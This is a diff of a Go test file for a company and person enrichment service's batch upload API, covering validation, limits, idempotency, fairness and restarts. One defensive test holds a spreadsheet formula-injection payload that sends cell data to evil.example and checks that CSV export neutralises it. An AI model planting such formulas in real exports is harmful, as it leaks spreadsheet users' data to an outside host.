@@ -1,8 +1,6 @@
 package server_test
 
 import (
-	"bytes"
-	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"net/http"
@@ -12,79 +10,42 @@ import (
 
 	"enrichd/flatten"
 	"enrichd/server"
+	"enrichd/server/servertest"
 
 	"github.com/matryer/is"
 )
 
-// uploadCSV posts a CSV file as a batch; query is added to the path as is.
-func (e *env) uploadCSV(file, query string, headers ...string) *response {
-	e.t.Helper()
-	return e.do("POST", "/v1/batches"+query, file, append([]string{"Content-Type", "text/csv"}, headers...)...)
-}
-
-// waitBatchDone polls a batch until every row's task has settled.
-func (e *env) waitBatchDone(id string) *response {
-	e.t.Helper()
-	deadline := time.Now().Add(120 * time.Second)
-	for {
-		r := e.do("GET", "/v1/batches/"+id, nil)
-		if r.status != 200 {
-			e.t.Fatalf("GET batch %s: %d %s", id, r.status, r.raw)
-		}
-		if r.str("data.status") == "done" {
-			return r
-		}
-		if time.Now().After(deadline) {
-			e.t.Fatalf("batch %s did not finish: %s", id, r.raw)
-		}
-		time.Sleep(20 * time.Millisecond)
-	}
-}
-
-func count(r *response, status string) int {
-	n, _ := r.get("data.counts." + status).(float64)
-	return int(n)
-}
-
-func readCSV(t *testing.T, raw []byte) [][]string {
-	t.Helper()
-	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
-	if err != nil {
-		t.Fatalf("results are not CSV: %v\n%s", err, raw)
-	}
-	return recs
-}
-
 func TestBatchEnrichesEveryRowAndWritesTheResults(t *testing.T) {
+	t.Parallel()
 	is := is.New(t)
-	e := newEnv(t)
-	e.net.addCompany(company("Acme", "acme.com"))
-	e.net.addCompany(company("Globex", "globex.com"))
-	e.startWorkers()
+	e := servertest.NewEnv(t)
+	e.Net.AddCompany(servertest.Company("Acme", "acme.com"))
+	e.Net.AddCompany(servertest.Company("Globex", "globex.com"))
+	e.StartWorkers()
 
 	file := "Company,domain,owner\nAcme,https://www.Acme.com/about,ann\nGlobex,globex.com,bob\nNobody,nobody-here.com,cy\n"
-	r := e.uploadCSV(file, "?name=crm.csv")
-	is.Equal(r.status, http.StatusAccepted)
-	id := r.str("data.id")
-	is.Equal(r.header.Get("Location"), "/v1/batches/"+id)
-	is.Equal(r.str("data.object_type"), "company")
-	is.Equal(r.str("data.name"), "crm.csv")
-	is.Equal(r.get("data.rows"), float64(3))
-	is.Equal(r.get("data.credits_estimate"), float64(3))
-	is.Equal(r.get("data.columns"), []any{"Company", "domain", "owner"})
+	r := e.UploadCSV(file, "?name=crm.csv")
+	is.Equal(r.Status, http.StatusAccepted)
+	id := r.Str("data.id")
+	is.Equal(r.Header.Get("Location"), "/v1/batches/"+id)
+	is.Equal(r.Str("data.object_type"), "company")
+	is.Equal(r.Str("data.name"), "crm.csv")
+	is.Equal(r.Get("data.rows"), float64(3))
+	is.Equal(r.Get("data.credits_estimate"), float64(3))
+	is.Equal(r.Get("data.columns"), []any{"Company", "domain", "owner"})
 
-	done := e.waitBatchDone(id)
-	is.Equal(count(done, "succeeded"), 2)
-	is.Equal(count(done, "failed"), 1)
-	is.Equal(count(done, "pending"), 0)
-	is.Equal(done.get("data.credits_spent"), float64(2)) // the not_found row was refunded
-	is.Equal(e.balance("acme").Balance, int64(98))
+	done := e.WaitBatchDone(id)
+	is.Equal(servertest.Count(done, "succeeded"), 2)
+	is.Equal(servertest.Count(done, "failed"), 1)
+	is.Equal(servertest.Count(done, "pending"), 0)
+	is.Equal(done.Get("data.credits_spent"), float64(2)) // the not_found row was refunded
+	is.Equal(e.Balance("acme").Balance, int64(98))
 
-	res := e.do("GET", "/v1/batches/"+id+"/results", nil)
-	is.Equal(res.status, 200)
-	is.True(strings.HasPrefix(res.header.Get("Content-Type"), "text/csv"))
-	is.True(strings.Contains(res.header.Get("Content-Disposition"), `filename=crm-results.csv`))
-	recs := readCSV(t, res.raw)
+	res := e.Do("GET", "/v1/batches/"+id+"/results", nil)
+	is.Equal(res.Status, 200)
+	is.True(strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv"))
+	is.True(strings.Contains(res.Header.Get("Content-Disposition"), `filename=crm-results.csv`))
+	recs := servertest.ReadCSV(t, res.Raw)
 	is.Equal(recs[0], append([]string{"Company", "domain", "owner"}, flatten.Columns("company")...))
 	is.Equal(len(recs), 4)
 	is.Equal(recs[1][:3], []string{"Acme", "https://www.Acme.com/about", "ann"}) // the input as uploaded
@@ -105,14 +66,14 @@ func TestBatchEnrichesEveryRowAndWritesTheResults(t *testing.T) {
 	is.Equal(recs[3][col("enrichd_error_code")], "not_found")
 
 	// Each row's task carries the key derived from the batch and the row.
-	task := e.do("GET", "/v1/tasks/"+recs[1][col("enrichd_task_id")], nil)
-	is.Equal(task.str("task.idempotency_key"), "batch:"+id+":1")
+	task := e.Do("GET", "/v1/tasks/"+recs[1][col("enrichd_task_id")], nil)
+	is.Equal(task.Str("task.idempotency_key"), "batch:"+id+":1")
 
 	// JSON Lines, asked for with Accept: the same columns, in order, every value a string.
-	jl := e.do("GET", "/v1/batches/"+id+"/results", nil, "Accept", "application/x-ndjson")
-	is.Equal(jl.status, 200)
-	is.Equal(jl.header.Get("Content-Type"), "application/x-ndjson")
-	lines := strings.Split(strings.TrimSpace(string(jl.raw)), "\n")
+	jl := e.Do("GET", "/v1/batches/"+id+"/results", nil, "Accept", "application/x-ndjson")
+	is.Equal(jl.Status, 200)
+	is.Equal(jl.Header.Get("Content-Type"), "application/x-ndjson")
+	lines := strings.Split(strings.TrimSpace(string(jl.Raw)), "\n")
 	is.Equal(len(lines), 3)
 	dec := json.NewDecoder(strings.NewReader(lines[1]))
 	var keys []string
@@ -125,26 +86,27 @@ func TestBatchEnrichesEveryRowAndWritesTheResults(t *testing.T) {
 	}
 	is.Equal(keys, recs[0])
 
-	list := e.do("GET", "/v1/batches", nil)
-	is.Equal(list.status, 200)
-	is.Equal(list.get("total"), float64(1))
+	list := e.Do("GET", "/v1/batches", nil)
+	is.Equal(list.Status, 200)
+	is.Equal(list.Get("total"), float64(1))
 }
 
 func TestBatchOfPeopleFromJSONLines(t *testing.T) {
+	t.Parallel()
 	is := is.New(t)
-	e := newEnv(t)
+	e := servertest.NewEnv(t)
 	companyURL := "https://www.linkedin.com/company/acme"
-	e.net.addPerson(employee("ann-lee", "Ann", "Lee", companyURL, "CTO", "Berlin", "DE", false))
-	e.startWorkers()
+	e.Net.AddPerson(servertest.Employee("ann-lee", "Ann", "Lee", companyURL, "CTO", "Berlin", "DE", false))
+	e.StartWorkers()
 	file := `{"networkUrl":"https://www.linkedin.com/in/ann-lee","crm_id":7}` + "\n\n" + `{"networkUrl":"https://www.linkedin.com/in/nobody","note":null}` + "\n"
-	r := e.do("POST", "/v1/batches", file, "Content-Type", "application/x-ndjson")
-	is.Equal(r.status, http.StatusAccepted)
-	is.Equal(r.str("data.object_type"), "person") // a profile URL
-	is.Equal(r.get("data.columns"), []any{"networkUrl", "crm_id", "note"})
-	done := e.waitBatchDone(r.str("data.id"))
-	is.Equal(count(done, "succeeded"), 1)
-	is.Equal(count(done, "failed"), 1)
-	recs := readCSV(t, e.do("GET", "/v1/batches/"+r.str("data.id")+"/results?format=csv", nil).raw)
+	r := e.Do("POST", "/v1/batches", file, "Content-Type", "application/x-ndjson")
+	is.Equal(r.Status, http.StatusAccepted)
+	is.Equal(r.Str("data.object_type"), "person") // a profile URL
+	is.Equal(r.Get("data.columns"), []any{"networkUrl", "crm_id", "note"})
+	done := e.WaitBatchDone(r.Str("data.id"))
+	is.Equal(servertest.Count(done, "succeeded"), 1)
+	is.Equal(servertest.Count(done, "failed"), 1)
+	recs := servertest.ReadCSV(t, e.Do("GET", "/v1/batches/"+r.Str("data.id")+"/results?format=csv", nil).Raw)
 	is.Equal(recs[0], append([]string{"networkUrl", "crm_id", "note"}, flatten.Columns("person")...))
 	is.Equal(recs[1][1], "7")
 	is.Equal(recs[1][3], "succeeded")
@@ -154,14 +116,15 @@ func TestBatchOfPeopleFromJSONLines(t *testing.T) {
 
 // Every refused row is listed, numbered, and nothing is made or charged.
 func TestBatchRefusesBadRowsAndChargesNothing(t *testing.T) {
+	t.Parallel()
 	is := is.New(t)
-	e := newEnv(t)
-	e.startWorkers()
+	e := servertest.NewEnv(t)
+	e.StartWorkers()
 	file := "domain,name\nacme.com,Acme\n,Empty\nnot a domain!,Bad\n\"multi\nline.com\",Two lines\nglobex.com\nok.com,Fine\n"
-	r := e.uploadCSV(file, "")
-	is.Equal(r.status, http.StatusBadRequest)
-	is.Equal(r.str("code"), "invalid_input")
-	rows := r.get("rows").([]any)
+	r := e.UploadCSV(file, "")
+	is.Equal(r.Status, http.StatusBadRequest)
+	is.Equal(r.Str("code"), "invalid_input")
+	rows := r.Get("rows").([]any)
 	is.Equal(len(rows), 4)
 	row := func(i int) map[string]any { return rows[i].(map[string]any) }
 	is.Equal(row(0)["row"], float64(2))
@@ -172,24 +135,25 @@ func TestBatchRefusesBadRowsAndChargesNothing(t *testing.T) {
 	is.Equal(row(2)["line"], float64(5))
 	is.Equal(row(3)["row"], float64(5))
 	is.True(strings.Contains(row(3)["error"].(string), "has 1 fields where the header has 2"))
-	is.True(strings.Contains(r.str("error"), "4 of 6 rows are refused"))
+	is.True(strings.Contains(r.Str("error"), "4 of 6 rows are refused"))
 
-	is.Equal(e.do("GET", "/v1/batches", nil).get("total"), float64(0))
-	is.Equal(e.do("GET", "/v1/tasks", nil).get("total"), float64(0))
-	is.Equal(e.balance("acme").Balance, int64(100))
+	is.Equal(e.Do("GET", "/v1/batches", nil).Get("total"), float64(0))
+	is.Equal(e.Do("GET", "/v1/tasks", nil).Get("total"), float64(0))
+	is.Equal(e.Balance("acme").Balance, int64(100))
 
 	// A comma inside a quoted header name is not a column: 200 columns are taken.
-	r = e.uploadCSV(`domain,"a,""b"",c"`+wideHeader(199)[len("domain"):]+"\nacme.com"+strings.Repeat(",", 199)+"\n", "")
-	if r.status != 202 {
-		t.Fatalf("%d %s", r.status, r.raw)
+	r = e.UploadCSV(`domain,"a,""b"",c"`+servertest.WideHeader(199)[len("domain"):]+"\nacme.com"+strings.Repeat(",", 199)+"\n", "")
+	if r.Status != 202 {
+		t.Fatalf("%d %s", r.Status, r.Raw)
 	}
-	is.Equal(len(r.get("data.columns").([]any)), 200)
+	is.Equal(len(r.Get("data.columns").([]any)), 200)
 }
 
 func TestBatchBoundsAndRefusals(t *testing.T) {
+	t.Parallel()
 	is := is.New(t)
-	e := newEnv(t)
-	e.startWorkers()
+	e := servertest.NewEnv(t)
+	e.StartWorkers()
 	for _, c := range []struct {
 		name, contentType, body, query string
 		status                         int
@@ -215,161 +179,164 @@ func TestBatchBoundsAndRefusals(t *testing.T) {
 		// The header's width is refused as soon as the header is read: the rows after it
 		// are not parsed (the bad quote would be "not CSV"), and a header of commas does
 		// not become millions of columns first.
-		{"header too wide", "text/csv", wideHeader(201) + "\n\"acme.com\n", "", 400, "invalid_input", "the file has 201 columns; at most 200"},
+		{"header too wide", "text/csv", servertest.WideHeader(201) + "\n\"acme.com\n", "", 400, "invalid_input", "the file has 201 columns; at most 200"},
 		{"header of commas", "text/csv", "domain" + strings.Repeat(",", 5<<20-16) + "\n", "", 400, "invalid_input", fmt.Sprintf("the file has %d columns; at most 200", 5<<20-15)},
 		{"JSON line too wide", "application/x-ndjson", wideJSONLine(201) + `"x":1,}` + "\n", "", 400, "invalid_input", "more than 200 distinct fields"},
 		{"too large", "text/csv", "domain,pad\n" + strings.Repeat("acme.com,"+strings.Repeat("x", 600)+"\n", 9000), "", 400, "invalid_input", "larger than 5 MiB"},
 		{"more than the balance", "text/csv", "email\n" + strings.Repeat("ann@acme.com\n", 34), "", 402, "insufficient_credits", "costs 102 and 100 remain"},
 	} {
-		r := e.do("POST", "/v1/batches"+c.query, c.body, "Content-Type", c.contentType)
-		if r.status != c.status || r.str("code") != c.code || !strings.Contains(r.str("error"), c.says) {
-			t.Errorf("%s: %d %s", c.name, r.status, r.raw)
+		r := e.Do("POST", "/v1/batches"+c.query, c.body, "Content-Type", c.contentType)
+		if r.Status != c.status || r.Str("code") != c.code || !strings.Contains(r.Str("error"), c.says) {
+			t.Errorf("%s: %d %s", c.name, r.Status, r.Raw)
 		}
 	}
 	// Rows of the wrong width are numbered as the rows they are.
-	r := e.uploadCSV("domain,owner\nacme.com\nacme.com\nacme.com,ann\nacme.com\n", "")
-	is.Equal(r.status, 400)
+	r := e.UploadCSV("domain,owner\nacme.com\nacme.com\nacme.com,ann\nacme.com\n", "")
+	is.Equal(r.Status, 400)
 	var numbers []any
-	for _, row := range r.get("rows").([]any) {
+	for _, row := range r.Get("rows").([]any) {
 		numbers = append(numbers, row.(map[string]any)["row"])
 	}
 	is.Equal(numbers, []any{float64(1), float64(2), float64(4)})
 
-	is.Equal(e.do("GET", "/v1/batches", nil).get("total"), float64(0))
-	is.Equal(e.do("GET", "/v1/tasks", nil).get("total"), float64(0))
-	is.Equal(e.balance("acme").Balance, int64(100))
+	is.Equal(e.Do("GET", "/v1/batches", nil).Get("total"), float64(0))
+	is.Equal(e.Do("GET", "/v1/tasks", nil).Get("total"), float64(0))
+	is.Equal(e.Balance("acme").Balance, int64(100))
 
 	// Another organization's batch, and an id that is none, are not found. (A kept
 	// column may hold any text, a NUL too: it is kept as sent.)
-	r = e.uploadCSV("domain,note\nacme.com,a\x00b\n", "")
-	is.Equal(r.status, 202)
-	otherKey, _ := e.newOrg("other", 10)
-	for _, path := range []string{"/v1/batches/" + r.str("data.id"), "/v1/batches/" + r.str("data.id") + "/results", "/v1/batches/nope"} {
-		got := e.do("GET", path, nil, "Authorization", "Bearer "+otherKey)
-		if got.status != 404 || got.str("code") != "not_found" {
-			t.Errorf("%s: %d %s", path, got.status, got.raw)
+	r = e.UploadCSV("domain,note\nacme.com,a\x00b\n", "")
+	is.Equal(r.Status, 202)
+	otherKey, _ := e.NewOrg("other", 10)
+	for _, path := range []string{"/v1/batches/" + r.Str("data.id"), "/v1/batches/" + r.Str("data.id") + "/results", "/v1/batches/nope"} {
+		got := e.Do("GET", path, nil, "Authorization", "Bearer "+otherKey)
+		if got.Status != 404 || got.Str("code") != "not_found" {
+			t.Errorf("%s: %d %s", path, got.Status, got.Raw)
 		}
 	}
-	is.Equal(e.do("GET", "/v1/batches", nil, "Authorization", "Bearer "+otherKey).get("total"), float64(0))
+	is.Equal(e.Do("GET", "/v1/batches", nil, "Authorization", "Bearer "+otherKey).Get("total"), float64(0))
 }
 
 // The batch's Idempotency-Key: sent again, the same batch, and nothing charged twice.
 func TestBatchIdempotencyKeyReplaysTheBatch(t *testing.T) {
+	t.Parallel()
 	is := is.New(t)
-	e := newEnv(t)
-	e.net.addCompany(company("Acme", "acme.com"))
-	e.net.addCompany(company("Globex", "globex.com"))
-	e.startWorkers()
+	e := servertest.NewEnv(t)
+	e.Net.AddCompany(servertest.Company("Acme", "acme.com"))
+	e.Net.AddCompany(servertest.Company("Globex", "globex.com"))
+	e.StartWorkers()
 	file := "domain\nacme.com\nglobex.com\n"
-	first := e.uploadCSV(file, "", "Idempotency-Key", "crm-export-1")
-	is.Equal(first.status, 202)
-	is.Equal(first.str("data.idempotency_key"), "crm-export-1")
-	e.waitBatchDone(first.str("data.id"))
+	first := e.UploadCSV(file, "", "Idempotency-Key", "crm-export-1")
+	is.Equal(first.Status, 202)
+	is.Equal(first.Str("data.idempotency_key"), "crm-export-1")
+	e.WaitBatchDone(first.Str("data.id"))
 
-	again := e.uploadCSV(file, "", "Idempotency-Key", "crm-export-1")
-	is.Equal(again.status, 200)
-	is.Equal(again.header.Get("Idempotent-Replayed"), "true")
-	is.Equal(again.str("data.id"), first.str("data.id"))
-	is.Equal(again.str("data.status"), "done")
+	again := e.UploadCSV(file, "", "Idempotency-Key", "crm-export-1")
+	is.Equal(again.Status, 200)
+	is.Equal(again.Header.Get("Idempotent-Replayed"), "true")
+	is.Equal(again.Str("data.id"), first.Str("data.id"))
+	is.Equal(again.Str("data.status"), "done")
 	time.Sleep(100 * time.Millisecond) // a feeder woken by mistake would have made tasks by now
-	is.Equal(e.do("GET", "/v1/tasks", nil).get("total"), float64(2))
-	is.Equal(e.balance("acme").Balance, int64(98))
-	is.Equal(e.do("GET", "/v1/batches", nil).get("total"), float64(1))
+	is.Equal(e.Do("GET", "/v1/tasks", nil).Get("total"), float64(2))
+	is.Equal(e.Balance("acme").Balance, int64(98))
+	is.Equal(e.Do("GET", "/v1/batches", nil).Get("total"), float64(1))
 
-	other := e.uploadCSV("domain\nacme.com\n", "", "Idempotency-Key", "crm-export-1")
-	is.Equal(other.status, 422)
-	is.Equal(other.str("code"), "idempotency_key_reused")
-	is.Equal(e.balance("acme").Balance, int64(98))
+	other := e.UploadCSV("domain\nacme.com\n", "", "Idempotency-Key", "crm-export-1")
+	is.Equal(other.Status, 422)
+	is.Equal(other.Str("code"), "idempotency_key_reused")
+	is.Equal(e.Balance("acme").Balance, int64(98))
 }
 
 // A row's task is made as any enrichment's: a restart in the middle of a batch (the
 // feeder stopped before every row had its task) makes the rest, and no row is
 // charged twice.
 func TestBatchKeepsToHalfTheBacklogAndResumesAfterARestart(t *testing.T) {
+	t.Parallel()
 	is := is.New(t)
-	e := newEnv(t, func(c *server.Config) { c.MaxBacklog = 6 })
-	release := e.net.hold()
+	e := servertest.NewEnv(t, func(c *server.Config) { c.MaxBacklog = 6 })
+	release := e.Net.Hold()
 	var file strings.Builder
 	file.WriteString("domain\n")
 	for i := range 10 {
 		domain := fmt.Sprintf("co%d.com", i)
-		e.net.addCompany(company(fmt.Sprintf("Co%d", i), domain))
+		e.Net.AddCompany(servertest.Company(fmt.Sprintf("Co%d", i), domain))
 		file.WriteString(domain + "\n")
 	}
-	e.startWorkers()
-	r := e.uploadCSV(file.String(), "")
-	is.Equal(r.status, 202)
-	id := r.str("data.id")
+	e.StartWorkers()
+	r := e.UploadCSV(file.String(), "")
+	is.Equal(r.Status, 202)
+	id := r.Str("data.id")
 	// Half the backlog: 3 queued at most, and the workers hold up to 4 running.
-	deadline := time.Now().Add(10 * time.Second)
+	deadline := time.Now().Add(servertest.SettleWithin)
 	for {
-		b := e.do("GET", "/v1/batches/"+id, nil)
-		is.True(count(b, "queued") <= 3)
-		if count(b, "pending") < 10 && count(b, "queued") == 3 || time.Now().After(deadline) {
-			is.True(count(b, "pending") > 0)
+		b := e.Do("GET", "/v1/batches/"+id, nil)
+		is.True(servertest.Count(b, "queued") <= 3)
+		if servertest.Count(b, "pending") < 10 && servertest.Count(b, "queued") == 3 || time.Now().After(deadline) {
+			is.True(servertest.Count(b, "pending") > 0)
 			break
 		}
 		time.Sleep(5 * time.Millisecond)
 	}
 	// Another organization is not held up behind the batch: its call is taken.
-	otherKey, _ := e.newOrg("other", 10)
-	is.Equal(e.do("POST", "/v1/companies/enrich", map[string]string{"domain": "co1.com"}, "Authorization", "Bearer "+otherKey).status, 202)
+	otherKey, _ := e.NewOrg("other", 10)
+	is.Equal(e.Do("POST", "/v1/companies/enrich", map[string]string{"domain": "co1.com"}, "Authorization", "Bearer "+otherKey).Status, 202)
 	// Nor is the organization's own call: the batch leaves it room in the backlog.
-	is.Equal(e.do("POST", "/v1/companies/enrich", map[string]string{"domain": "co2.com"}).status, 202)
+	is.Equal(e.Do("POST", "/v1/companies/enrich", map[string]string{"domain": "co2.com"}).Status, 202)
 
-	e.stopWorkers()
+	e.StopWorkers()
 	release()
-	e.restart()
-	e.startWorkers()
-	done := e.waitBatchDone(id)
-	is.Equal(count(done, "succeeded"), 10)
-	is.Equal(done.get("data.credits_spent"), float64(10))
-	is.Equal(e.balance("acme").Balance, int64(100-10-1))
+	e.Restart()
+	e.StartWorkers()
+	done := e.WaitBatchDone(id)
+	is.Equal(servertest.Count(done, "succeeded"), 10)
+	is.Equal(done.Get("data.credits_spent"), float64(10))
+	is.Equal(e.Balance("acme").Balance, int64(100-10-1))
 }
 
 // A batch is one organization's bulk upload: another organization's task, sent after
 // it, is claimed in turn, not after the whole batch.
 func TestBatchDoesNotHoldUpAnotherOrganization(t *testing.T) {
+	t.Parallel()
 	is := is.New(t)
-	e := newEnv(t, func(c *server.Config) { c.Workers = 1 })
-	if _, err := e.db.GrantCredits(t.Context(), "acme", 1000, nil); err != nil {
+	e := servertest.NewEnv(t, func(c *server.Config) { c.Workers = 1 })
+	if _, err := e.DB.GrantCredits(t.Context(), "acme", 1000, nil); err != nil {
 		t.Fatal(err)
 	}
 	var file strings.Builder
 	file.WriteString("domain\n")
 	for i := range 300 {
 		domain := fmt.Sprintf("co%d.com", i)
-		e.net.addCompany(company(fmt.Sprintf("Co%d", i), domain))
+		e.Net.AddCompany(servertest.Company(fmt.Sprintf("Co%d", i), domain))
 		file.WriteString(domain + "\n")
 	}
-	e.net.addCompany(company("Other", "other.com"))
-	release := e.net.hold()
-	e.startWorkers()
-	r := e.uploadCSV(file.String(), "")
-	is.Equal(r.status, 202)
+	e.Net.AddCompany(servertest.Company("Other", "other.com"))
+	release := e.Net.Hold()
+	e.StartWorkers()
+	r := e.UploadCSV(file.String(), "")
+	is.Equal(r.Status, 202)
 	// The batch's rows are queued before the other organization sends its task.
-	deadline := time.Now().Add(10 * time.Second)
-	for count(e.do("GET", "/v1/batches/"+r.str("data.id"), nil), "queued") < 100 {
+	deadline := time.Now().Add(servertest.SettleWithin)
+	for servertest.Count(e.Do("GET", "/v1/batches/"+r.Str("data.id"), nil), "queued") < 100 {
 		if time.Now().After(deadline) {
 			t.Fatal("the batch's rows were not queued")
 		}
 		time.Sleep(5 * time.Millisecond)
 	}
-	otherKey, _ := e.newOrg("other", 10)
+	otherKey, _ := e.NewOrg("other", 10)
 	asOther := []string{"Authorization", "Bearer " + otherKey}
-	q := e.do("POST", "/v1/companies/enrich", map[string]string{"domain": "other.com"}, asOther...)
-	is.Equal(q.status, 202)
+	q := e.Do("POST", "/v1/companies/enrich", map[string]string{"domain": "other.com"}, asOther...)
+	is.Equal(q.Status, 202)
 	// The claims that follow: the other organization's task comes in the first two,
 	// ahead of the batch's hundreds of queued rows.
-	e.stopWorkers() // the held claim goes back to the queue
+	e.StopWorkers() // the held claim goes back to the queue
 	release()
 	// On PostgreSQL a claim skips the turns other transactions hold (SKIP LOCKED) and
 	// reports nothing when it finds every one held, as the batch's feeder may hold its
 	// organization's for a moment: a worker polls again, and so does this test.
 	var claimed []string
-	deadline = time.Now().Add(10 * time.Second)
+	deadline = time.Now().Add(servertest.SettleWithin)
 	for len(claimed) < 2 {
-		c, err := e.db.ClaimTask(t.Context(), time.Minute)
+		c, err := e.DB.ClaimTask(t.Context(), time.Minute)
 		is.NoErr(err)
 		if c != nil {
 			claimed = append(claimed, c.TaskID)
@@ -377,8 +344,8 @@ func TestBatchDoesNotHoldUpAnotherOrganization(t *testing.T) {
 			t.Fatal("nothing to claim with the batch's rows queued")
 		}
 	}
-	is.True(claimed[0] == q.str("task.id") || claimed[1] == q.str("task.id"))
-	is.True(count(e.do("GET", "/v1/batches/"+r.str("data.id"), nil), "queued") >= 98)
+	is.True(claimed[0] == q.Str("task.id") || claimed[1] == q.Str("task.id"))
+	is.True(servertest.Count(e.Do("GET", "/v1/batches/"+r.Str("data.id"), nil), "queued") >= 98)
 }
 
 // A cell that a spreadsheet would run as a formula (it starts with = + - @, a tab or a
@@ -386,39 +353,31 @@ func TestBatchDoesNotHoldUpAnotherOrganization(t *testing.T) {
 // it came from the upload or from a source's result; a number stays a number, and
 // JSON Lines keeps every value as it is.
 func TestBatchResultsCSVDefusesFormulas(t *testing.T) {
+	t.Parallel()
 	is := is.New(t)
-	e := newEnv(t)
-	c := company("Acme", "acme.com")
+	e := servertest.NewEnv(t)
+	c := servertest.Company("Acme", "acme.com")
 	c.Name = `=HYPERLINK("http://evil.example/?"&A1,"Acme")`
-	e.net.addCompany(c)
-	e.startWorkers()
+	e.Net.AddCompany(c)
+	e.StartWorkers()
 
-	r := e.uploadCSV("domain,owner,note,score\nacme.com,@SUM(1+1),+1 555 0100,-12.5\n", "")
-	is.Equal(r.status, http.StatusAccepted)
-	id := r.str("data.id")
-	e.waitBatchDone(id)
+	r := e.UploadCSV("domain,owner,note,score\nacme.com,@SUM(1+1),+1 555 0100,-12.5\n", "")
+	is.Equal(r.Status, http.StatusAccepted)
+	id := r.Str("data.id")
+	e.WaitBatchDone(id)
 
-	recs := readCSV(t, e.do("GET", "/v1/batches/"+id+"/results", nil).raw)
+	recs := servertest.ReadCSV(t, e.Do("GET", "/v1/batches/"+id+"/results", nil).Raw)
 	is.Equal(len(recs), 2)
 	is.Equal(recs[1][:4], []string{"acme.com", "'@SUM(1+1)", "'+1 555 0100", "-12.5"})
 	is.Equal(recs[1][4], "succeeded")
 	is.Equal(recs[0][8], "enrichd_name")
 	is.Equal(recs[1][8], `'=HYPERLINK("http://evil.example/?"&A1,"Acme")`)
 
-	jl := e.do("GET", "/v1/batches/"+id+"/results", nil, "Accept", "application/x-ndjson")
+	jl := e.Do("GET", "/v1/batches/"+id+"/results", nil, "Accept", "application/x-ndjson")
 	var row map[string]string
-	is.NoErr(json.Unmarshal(jl.raw, &row))
+	is.NoErr(json.Unmarshal(jl.Raw, &row))
 	is.Equal(row["owner"], "@SUM(1+1)")
 	is.Equal(row["enrichd_name"], c.Name)
-}
-
-// wideHeader is a CSV header of n distinct columns, domain the first.
-func wideHeader(n int) string {
-	cols := []string{"domain"}
-	for i := 1; i < n; i++ {
-		cols = append(cols, fmt.Sprintf("c%d", i))
-	}
-	return strings.Join(cols, ",")
 }
 
 // wideJSONLine is the start of a JSON object of n distinct fields, domain the first,
